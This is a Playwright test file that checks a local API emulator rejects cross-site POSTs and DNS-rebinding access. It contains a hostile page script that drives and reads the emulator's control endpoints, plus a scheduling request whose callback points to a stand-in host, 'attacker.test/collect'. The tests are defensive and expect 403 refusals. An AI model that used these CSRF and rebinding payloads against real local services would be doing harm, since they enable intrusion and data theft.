"""Item 1 of the playground's hardening, in Chromium: a page of another site, and a page that
rebinds its own name to 127.0.0.1, try what the issue's attacker did. The requests reach the
emulator (the emulator's log shows each one) and the emulator refuses them."""

from __future__ import annotations

import uuid

import httpx
from playwright.sync_api import Browser

from devstack.stack import LOCAL_API_KEY
from tests.browser.conftest import REBOUND_NAME, Playground

ATTACKER = "http://attacker.test"


def hostile_page(emulator: str, marker: str) -> str:
    """What a web page anywhere can run: simple cross-origin POSTs (no preflight) and reads."""
    return f"""<!doctype html><html><body><script>
      const emulator = {emulator!r};
      const writes = [
        ["/_emulator/reset", "{{}}"],
        ["/_emulator/faults", '{{"path": "/v1/", "status": 500, "times": 100}}'],
        ["/_emulator/invoke", '{{"intent": "remember", "query": "{marker} pwned"}}'],
      ];
      window.outcome = {{writes: [], reads: []}};
      (async () => {{
        for (const [path, body] of writes) {{
          const answer = await fetch(emulator + path, {{
            method: "POST", mode: "no-cors", headers: {{"Content-Type": "text/plain"}}, body,
          }}).then((r) => r.type, (e) => "failed");
          window.outcome.writes.push(answer);
        }}
        for (const path of ["/_emulator/storage", "/_emulator/deliveries"]) {{
          const answer = await fetch(emulator + path).then((r) => r.text(), (e) => "failed");
          window.outcome.reads.push(answer);
        }}
        window.done = true;
      }})();
    </script></body></html>"""


def test_a_page_of_another_site_cannot_drive_or_read_the_emulator(
    browser: Browser, playground: Playground
):
    marker = f"kept-{uuid.uuid4().hex[:6]}"
    httpx.post(
        f"{playground.url}v1/platform/storage/",
        headers={"X-API-KEY": LOCAL_API_KEY},
        json={"op": "set", "namespace": "security", "params": {"key": marker, "value": "secret"}},
        trust_env=False,
    ).raise_for_status()
    log_before = len(playground.emulator_log().splitlines())
    context = browser.new_context()
    page = context.new_page()
    page.route(
        f"{ATTACKER}/**",
        lambda route: route.fulfill(
            body=hostile_page(playground.url.rstrip("/"), marker), content_type="text/html"
        ),
    )
    page.goto(f"{ATTACKER}/")
    page.wait_for_function("window.done === true")
    outcome = page.evaluate("window.outcome")
    context.close()

    # The browser got nothing it could read...
    assert all("secret" not in text and marker not in text for text in outcome["reads"])
    # ...because the emulator refused every request, which did reach it:
    log = playground.emulator_log().splitlines()[log_before:]
    for path in ("/_emulator/reset", "/_emulator/faults", "/_emulator/invoke"):
        assert any(f'"POST {path} HTTP/1.1" 403' in line for line in log), (path, log)
    for path in ("/_emulator/storage", "/_emulator/deliveries"):
        assert any(f'"GET {path} HTTP/1.1" 403' in line for line in log), (path, log)
    # ...and nothing changed: the value is still stored, no fault is pending, nothing ran.
    storage = playground.control("GET", "storage").json()
    assert [e["value"] for e in storage if e["key"] == marker] == ["secret"]
    assert playground.control("GET", "faults").json() == []
    deliveries = playground.control("GET", "deliveries").json()
    assert not any(marker in str(d["body"]) for d in deliveries)


def test_a_rebound_host_name_gets_only_a_refusal(browser: Browser, playground: Playground):
    """A DNS-rebinding page: the browser reaches 127.0.0.1 under the page's own name."""
    context = browser.new_context()
    page = context.new_page()
    rebound = f"http://{REBOUND_NAME}:{playground.port}"

    answer = page.goto(f"{rebound}/")
    assert answer is not None
    status = answer.status
    shown = page.inner_text("body")
    reads = page.evaluate(
        """async () => Promise.all(["/_emulator/storage", "/_emulator/world",
             "/v1/platform/storage/"].map((p) => fetch(p).then((r) => r.status)))"""
    )
    scheduled = page.evaluate(
        """async () => (await fetch("/v1/platform/scheduling/", {method: "POST",
             headers: {"X-API-KEY": "local-api-key-acme-0001", "Content-Type": "application/json"},
             body: JSON.stringify({name: "steal", command_uuid:
               "c0000000-0000-4000-8000-000000000001", execution_frequency: 1,
               callback_url: "http://attacker.test/collect"})})).status"""
    )
    context.close()

    assert status == 403
    assert "host_not_allowed" in shown
    assert reads == [403, 403, 403]
    assert scheduled == 403
    assert not [s for s in playground.control("GET", "schedules").json() if s["name"] == "steal"]


def test_the_playground_itself_still_works_on_localhost(browser: Browser, playground: Playground):
    """The loopback names are the emulator's own: its page works under `localhost` too."""
    context = browser.new_context()
    page = context.new_page()
    page.goto(f"http://localhost:{playground.port}/")
    page.wait_for_selector("body[data-ready='true']", state="attached")
    page.fill("#command", "vote")
    page.press("#command", "Enter")
    page.locator("#conversation .from-bot", has_text="Shall we ship it?").last.wait_for()
    context.close()
